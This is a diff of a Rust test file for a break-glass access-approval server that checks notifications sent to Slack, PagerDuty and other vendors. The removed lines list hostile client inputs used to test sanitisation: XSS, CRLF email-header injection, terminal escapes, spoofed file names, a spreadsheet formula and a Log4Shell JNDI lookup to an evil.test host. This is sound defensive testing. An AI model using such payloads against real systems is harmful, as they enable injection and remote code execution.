@@ -1,11 +1,10 @@
-//! What each vendor is sent, held against what it documents; and hostile text of a client in each.
+//! What each vendor is sent, held against what it documents.
 
 use std::fs;
 
 use breakglass_audit::text::misleads;
 use breakglass_server::clock::Moment;
 use breakglass_server::config::{Config, Sink};
-use breakglass_server::sinks::notice::Asked;
 use breakglass_server::sinks::words::words;
 use breakglass_server::sinks::{Event, For, Message, Notice, prepare, takes};
 use breakglass_testing::receiver::{Receiver, Reply};
@@ -14,50 +13,7 @@ use serde_json::{Value, json};
 use tempfile::TempDir;
 
 use super::deliveries::{list, service, until, until_taken, with_sinks};
-
-/// What a client could write into every text.
-const HOSTILE: &[&str] = &[
-    "<!channel> <https://evil.test|approve> <@U123>",
-    "<script>alert(1)</script><img src=x onerror=\"x()\">",
-    "a\r\nBcc: eve@evil.test\r\n\r\nbody",
-    "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m",
-    "abc\u{202e}gpj.exe\u{2066}\u{200b}\u{e0041}",
-    "*bold* ~gone~ `code` ```block``` _it_",
-    "=cmd|'/c calc'!A1 {{7*7}} ${jndi:ldap://evil.test}",
-];
-
-/// A notice in which every text of a client is this one.
-pub(crate) fn hostile(kind: &str, text: &str) -> Notice {
-    let mut notice = Notice::example(kind, Moment::from_seconds(START));
-    notice.actor = text.to_owned();
-    notice.subject = Some(text.to_owned());
-    notice.incident = Some(text.to_owned());
-    notice.audience = Some(text.to_owned());
-    notice.data =
-        json!({ "reason": text, "text": text, "note": text, "group": text, "scopes": [text] });
-    notice.asked = Some(Asked {
-        requester: text.to_owned(),
-        scopes: vec![text.to_owned(); 3],
-        opens: vec![text.to_owned(); 300],
-        reason: text.repeat(50),
-        duration_s: 60,
-        emergency: true,
-    });
-    notice
-}
-
-/// Every type of events, and one that is not known.
-fn kinds() -> Vec<&'static str> {
-    use breakglass_api::events::EventType;
-    use breakglass_api::words::Vocabulary as _;
-    let known = EventType::ALL.iter().map(|one| one.word());
-    known.chain(["breakglass.alert.out_of_scope", "breakglass.of_a_newer_version"]).collect()
-}
-
-/// Each hostile notice.
-pub(crate) fn all_hostile() -> impl Iterator<Item = Notice> {
-    kinds().into_iter().flat_map(|kind| HOSTILE.iter().map(move |text| hostile(kind, text)))
-}
+use super::hostile::all_hostile;
 
 /// The sinks of this configuration.
 pub(crate) fn sinks(directory: &TempDir, sinks: &str) -> Vec<Sink> {
@@ -65,7 +21,7 @@ pub(crate) fn sinks(directory: &TempDir, sinks: &str) -> Vec<Sink> {
 }
 
 /// What a sink is sent by HTTP.
-fn sent(sink: &Sink, notice: &Notice) -> Value {
+pub(crate) fn sent(sink: &Sink, notice: &Notice) -> Value {
     let event = Event {
         notice,
         source: "https://approvals.test",
@@ -79,7 +35,7 @@ fn sent(sink: &Sink, notice: &Notice) -> Value {
 }
 
 /// Every text in it.
-fn texts(value: &Value) -> Vec<String> {
+pub(crate) fn texts(value: &Value) -> Vec<String> {
     match value {
         Value::String(text) => vec![text.clone()],
         Value::Array(items) => items.iter().flat_map(texts).collect(),
@@ -93,7 +49,7 @@ fn what_a_human_reads_is_on_lines_of_its_own_bounded_and_harmless() {
     for notice in all_hostile() {
         let words = words(&notice);
         assert!(words.title.chars().count() <= 141, "{words:?}");
-        let command = words.command.as_deref().unwrap_or_default();
+        let command = words.command.as_ref().map_or("", |command| command.text.as_str());
         assert!(command.bytes().all(|byte| byte.is_ascii_graphic() || byte == b' '), "{command}");
         let texts = words.lines.iter().map(|(_, text)| text.as_str());
         for text in texts.chain([words.title.as_str()]) {
@@ -103,7 +59,8 @@ fn what_a_human_reads_is_on_lines_of_its_own_bounded_and_harmless() {
     }
     let said = words(&Notice::example("breakglass.request.submitted", Moment::from_seconds(START)));
     assert_eq!(said.title, "alice asks for orders:write");
-    assert_eq!(said.command.as_deref(), Some("breakglass approve req_01KAN5S3M0W8Z4T2C9X7Y6B5D1"));
+    let command = said.command.unwrap().text;
+    assert_eq!(command, "breakglass approve req_01KAN5S3M0W8Z4T2C9X7Y6B5D1");
     for expected in [
         ("Who", "alice"),
         ("Opens", "orders:write: change orders"),
@@ -149,6 +106,12 @@ fn slack_is_sent_what_it_documents_and_no_text_of_a_client_is_a_mention() {
                 assert!((1..=3000).contains(&length), "{length}");
                 if text["type"] == "mrkdwn" {
                     let text = text["text"].as_str().unwrap();
+                    // The one link is to the service itself.
+                    let link =
+                        notice.link("https://approvals.test").map(|link| format!("<{link}>"));
+                    if link.as_deref() == Some(text) {
+                        continue;
+                    }
                     assert!(!text.contains(['<', '>']), "{text}");
                     // What stands between marks of style is ours.
                     let without = text.replace("&lt;", "").replace("&gt;", "").replace("&amp;", "");
@@ -197,6 +160,9 @@ fn pagerduty_is_sent_what_it_documents() {
                 assert!(!payload["source"].as_str().unwrap().is_empty());
                 let severity = payload["severity"].as_str().unwrap();
                 assert!(["critical", "error", "warning", "info"].contains(&severity));
+                let link = notice.link("https://approvals.test");
+                assert_eq!(event["client_url"].as_str(), link.as_deref());
+                assert_eq!(event["links"][0]["href"].as_str(), link.as_deref());
             }
             "acknowledge" | "resolve" => assert_eq!(event.get("payload"), None),
             other => panic!("{other}"),
@@ -216,11 +182,19 @@ fn pagerduty_is_sent_what_it_documents() {
         ("breakglass.request.questioned", "acknowledge", request),
         ("breakglass.request.approved", "resolve", request),
         ("breakglass.request.lapsed", "resolve", request),
+        ("breakglass.grant.expired", "resolve", "grant_01KAN5S3M0W8Z4T2C9X7Y6B5D2"),
         ("breakglass.grant.revoked", "resolve", "grant_01KAN5S3M0W8Z4T2C9X7Y6B5D2"),
         ("breakglass.directory.mass_loss", "trigger", "evt_00000000000000000000000000000000"),
     ] {
         assert_eq!(action(kind), (json!(expected), json!(key)), "{kind}");
     }
+    // An emergency rings at its submission, and again while it is used.
+    let mut emergency = Notice::example("breakglass.grant.activated", Moment::from_seconds(START));
+    emergency.asked.as_mut().unwrap().emergency = true;
+    assert!(takes(sink, &emergency));
+    assert_eq!(sent(sink, &emergency)["payload"]["severity"], "warning");
+    emergency.kind = "breakglass.request.submitted".to_owned();
+    assert_eq!(sent(sink, &emergency)["payload"]["severity"], "critical");
     for kind in ["breakglass.grant.activated", "breakglass.session.began"] {
         let notice = Notice::example(kind, Moment::from_seconds(START));
         assert!(!takes(sink, &notice), "{kind}: nothing would ever resolve it");
